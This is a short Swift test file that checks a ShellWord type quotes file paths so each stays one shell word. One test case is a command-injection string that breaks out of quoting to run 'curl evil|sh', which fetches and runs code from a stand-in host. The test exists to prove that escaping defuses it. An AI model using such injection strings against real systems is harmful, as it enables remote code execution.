import ProjectAdoption
import Testing

@Suite struct ShellWords {
    @Test(arguments: [
        ("work/My App", "'work/My App'"),
        ("work/Bob's App", #"'work/Bob'\''s App'"#),
        ("x';curl evil|sh;'", #"'x'\'';curl evil|sh;'\'''"#),
        ("", "''"),
    ])
    func `a path in a printed command is one word of the shell`(text: String, quoted: String) {
        #expect(ShellWord(text).description == quoted)
    }
}
